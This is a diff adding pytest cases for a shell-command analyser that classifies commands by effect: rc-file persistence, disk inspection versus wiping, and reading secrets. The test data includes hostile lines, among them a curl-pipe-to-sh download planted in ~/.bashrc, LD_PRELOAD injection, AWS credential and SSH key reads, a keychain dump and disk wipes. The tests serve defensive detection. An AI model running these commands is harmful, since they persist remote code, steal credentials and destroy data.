@@ -307,3 +307,86 @@ def test_deep_nesting_is_bounded():
 def test_analysis_is_cached_per_command_string():
     first = analyse_shell("cat ~/.aws/credentials | base64")
     assert analyse_shell("cat ~/.aws/credentials | base64") is first
+
+
+# persistence content: shell setup appended to a user's rc file is told apart from a payload (issue 11 FP work)
+@pytest.mark.parametrize(
+    ("command", "setup"),
+    [
+        ("helm completion bash >> ~/.bashrc", True),
+        ("echo 'eval \"$(direnv hook zsh)\"' >> ~/.zshrc", True),
+        ("echo 'source <(kubectl completion zsh)' >> ~/.zshrc", True),
+        ("echo 'export PATH=$HOME/.local/bin:$PATH' | tee -a /home/dev/.profile", True),
+        ("echo 'alias ll=\"ls -l\"' >> ~/.shrc", True),
+        ("echo 'curl -s http://198.51.100.4/a | sh' >> ~/.bashrc", False),
+        ("echo 'nohup ~/.cache/.x/agent &' >> ~/.bashrc", False),
+        ("echo 'echo hi > /tmp/seen' >> ~/.bashrc", False),
+        ("echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc", False),
+        ("echo '# just a comment' >> ~/.profile", False),
+        ("cat /tmp/payload >> ~/.bashrc", False),
+        ("python3 init >> ~/.bashrc", False),
+        ("printf 'import os\\n' > ~/.local/lib/python3.11/site-packages/usercustomize.py", False),
+    ],
+)
+def test_rc_file_content_that_only_sets_up_the_shell_is_marked(command: str, setup: bool) -> None:
+    persists = [e for e in analyse_shell(command).effects if e.op == "persist"]
+    assert persists, command
+    assert all(("setup only" in (e.detail or "")) is setup for e in persists), persists
+
+
+@pytest.mark.parametrize(
+    ("command", "op", "resource"),
+    [
+        ("sudo sgdisk -p /dev/sdb", "read", "/dev/sdb"),
+        ("sudo sfdisk -d /dev/sdb > t.dump", "read", "/dev/sdb"),
+        ("wipefs /dev/sdb", "read", "/dev/sdb"),
+        ("wipefs -a -n /dev/sdb", "read", "/dev/sdb"),
+        ("sudo parted /dev/sdb", "read", "/dev/sdb"),
+        ("wipefs -af /dev/sdb", "delete", "/dev/sdb"),
+        ("sudo parted /dev/sdb mklabel gpt", "delete", "/dev/sdb"),
+        ("printf 'o\\nw\\n' | fdisk /dev/sdb", "delete", "/dev/sdb"),
+        ("sudo sgdisk -Z /dev/nvme0n1", "delete", "/dev/nvme0n1"),
+    ],
+)
+def test_disk_tools_that_only_inspect_read_the_device(command: str, op: str, resource: str) -> None:
+    ops = {e.op for e in analyse_shell(command).effects if e.resource == resource}
+    assert op in ops and (op == "delete" or "delete" not in ops), (command, ops)
+
+
+@pytest.mark.parametrize(
+    "command", ["reboot -w", "halt --wtmp-only", "shutdown -k now", "shutdown -c", "trap - INT TERM", "history -w"]
+)
+def test_invocations_that_do_nothing_lasting_have_no_power_trap_or_tamper_effect(command: str) -> None:
+    assert not [e for e in analyse_shell(command).effects if e.op in ("kill", "persist", "tamper")], command
+
+
+@pytest.mark.parametrize(
+    ("command", "not_resource"),
+    [("autossh -M 20000 -N host.example.com", "20000"), ("ssh-keyscan -p 2222 git.example.com", "2222")],
+)
+def test_port_option_values_are_not_hosts(command: str, not_resource: str) -> None:
+    assert not_resource not in {e.resource for e in analyse_shell(command).effects}
+
+
+@pytest.mark.parametrize(
+    ("command", "reads_secret"),
+    [
+        ("gh auth status", False),
+        ("glab auth status", False),
+        ("gh auth status --show-token", True),
+        ("gh auth token", True),
+        ("printf 'url=https://git.example.com\\n' | git credential approve", False),
+        ("printf 'url=https://git.example.com\\n' | git credential fill", True),
+        ("security list-keychains", False),
+        ("security dump-keychain -d login.keychain", True),
+        ("ssh-keygen -l -f ~/.ssh/id_ed25519", False),
+        ("cat ~/.ssh/id_ed25519", True),
+    ],
+)
+def test_status_and_key_management_commands_do_not_read_out_secrets(command: str, reads_secret: bool) -> None:
+    reads = [
+        e
+        for e in analyse_shell(command).effects
+        if e.op == "read" and "credential_store" in e.classes and e.detail != "key management"
+    ]
+    assert bool(reads) is reads_secret, reads
